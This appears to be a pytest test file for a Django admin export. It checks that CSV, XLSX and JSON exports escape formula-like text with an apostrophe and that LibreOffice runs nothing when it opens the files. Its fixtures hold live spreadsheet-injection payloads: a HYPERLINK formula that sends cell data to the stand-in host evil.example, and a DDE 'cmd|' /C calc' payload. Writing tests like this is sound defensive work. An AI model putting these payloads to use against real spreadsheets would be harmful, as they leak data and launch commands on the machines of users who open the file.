"""Exported files show what editors typed and never run it (issue 10, items 9 and 10)."""

import csv
import io
import shutil
import subprocess

import openpyxl
import pytest

from ecosystem.models import Actor
from tests import factories

pytestmark = pytest.mark.django_db

ACTORS_URL = "/admin/ecosystem/actor/"
EXPORT_FORMATS = {"csv": "0", "xlsx": "1", "json": "2"}
FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez")'
SUMMARIES = ["@SUM(1+1)", "+33 1 23", "-2+3", "\tcmd|' /C calc'!A0", "\rligne"]


def export(client, file_format, columns=("slug", "name", "summary")):
    data = {"format": EXPORT_FORMATS[file_format], "resource": "0"}
    data.update({f"actorresource_{column}": "on" for column in columns})
    response = client.post(f"{ACTORS_URL}export/", data)
    assert response.status_code == 200
    return response.content


@pytest.fixture
def hostile_actors(db):
    factories.make_actor(slug="a-formula", name=FORMULA_NAME, summary="Résumé.")
    for number, summary in enumerate(SUMMARIES):
        factories.make_actor(slug=f"b-{number}", name=f"Acteur {number}", summary=summary)


def xlsx_rows(content):
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


def test_export_xlsx_writes_formula_like_text_as_text(editor_client, hostile_actors):
    rows = xlsx_rows(export(editor_client, "xlsx"))

    assert rows == [
        [("slug", "s"), ("name", "s"), ("summary", "s")],
        [("a-formula", "s"), ("'" + FORMULA_NAME, "s"), ("Résumé.", "s")],
        [("b-0", "s"), ("Acteur 0", "s"), ("'@SUM(1+1)", "s")],
        [("b-1", "s"), ("Acteur 1", "s"), ("'+33 1 23", "s")],
        [("b-2", "s"), ("Acteur 2", "s"), ("'-2+3", "s")],
        [("b-3", "s"), ("Acteur 3", "s"), ("'\tcmd|' /C calc'!A0", "s")],
        # XML reads a carriage return back as a line feed; the apostrophe is what matters.
        [("b-4", "s"), ("Acteur 4", "s"), ("'\nligne", "s")],
    ]


def test_export_csv_writes_formula_like_text_behind_an_apostrophe(editor_client, hostile_actors):
    text = export(editor_client, "csv").decode("utf-8-sig")

    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["slug", "name", "summary"],
        ["a-formula", "'" + FORMULA_NAME, "Résumé."],
        ["b-0", "Acteur 0", "'@SUM(1+1)"],
        ["b-1", "Acteur 1", "'+33 1 23"],
        ["b-2", "Acteur 2", "'-2+3"],
        ["b-3", "Acteur 3", "'\tcmd|' /C calc'!A0"],
        ["b-4", "Acteur 4", "'\rligne"],
    ]


def test_export_json_carries_the_same_neutral_cells(editor_client, hostile_actors):
    content = export(editor_client, "json").decode()

    assert '"name": "\'=HYPERLINK(' in content


def test_export_xlsx_survives_a_control_character_saved_before_the_fix(editor_client, db):
    actor = factories.make_actor(slug="vt", name="Tabulation verticale")
    # update() skips save(): the row holds what older versions let editors save.
    # Both French columns, as migration 0009 of ecosystem left them.
    Actor.objects.filter(pk=actor.pk).update(
        summary="Avant\x0baprès\x1f.", summary_fr="Avant\x0baprès\x1f."
    )

    rows = xlsx_rows(export(editor_client, "xlsx"))

    assert rows[1] == [("vt", "s"), ("Tabulation verticale", "s"), ("Avantaprès.", "s")]


def libreoffice_convert(tmp_path, content, suffix, target):
    """Open `content` in LibreOffice as a user would and save it as `target`."""
    binary = shutil.which("soffice") or shutil.which("libreoffice")
    if binary is None:
        pytest.skip("LibreOffice (soffice) is not installed: the spreadsheet check needs it.")
    source = tmp_path / f"export.{suffix}"
    source.write_bytes(content)
    profile = tmp_path / "profile"
    subprocess.run(
        [
            binary,
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            # Comma-separated UTF-8 text both ways (LibreOffice's code 76), as exported.
            "--infilter=CSV:44,34,76",
            "--convert-to",
            target,
            "--outdir",
            str(tmp_path / "out"),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    return (tmp_path / "out" / f"export.{target.split(':')[0]}").read_bytes()


@pytest.mark.parametrize(
    ("file_format", "target"),
    [("xlsx", "csv:Text - txt - csv (StarCalc):44,34,76"), ("csv", "xlsx")],
)
def test_export_opened_in_libreoffice_shows_the_text_and_runs_nothing(
    editor_client, hostile_actors, tmp_path, file_format, target
):
    converted = libreoffice_convert(
        tmp_path, export(editor_client, file_format), file_format, target
    )

    if target.startswith("csv"):
        shown = [row[1] for row in csv.reader(io.StringIO(converted.decode(), newline=""))]
        assert shown[1] == "'" + FORMULA_NAME
    else:
        rows = xlsx_rows(converted)
        assert rows[1][1][1] == "s"
        assert rows[1][1][0].endswith(FORMULA_NAME)
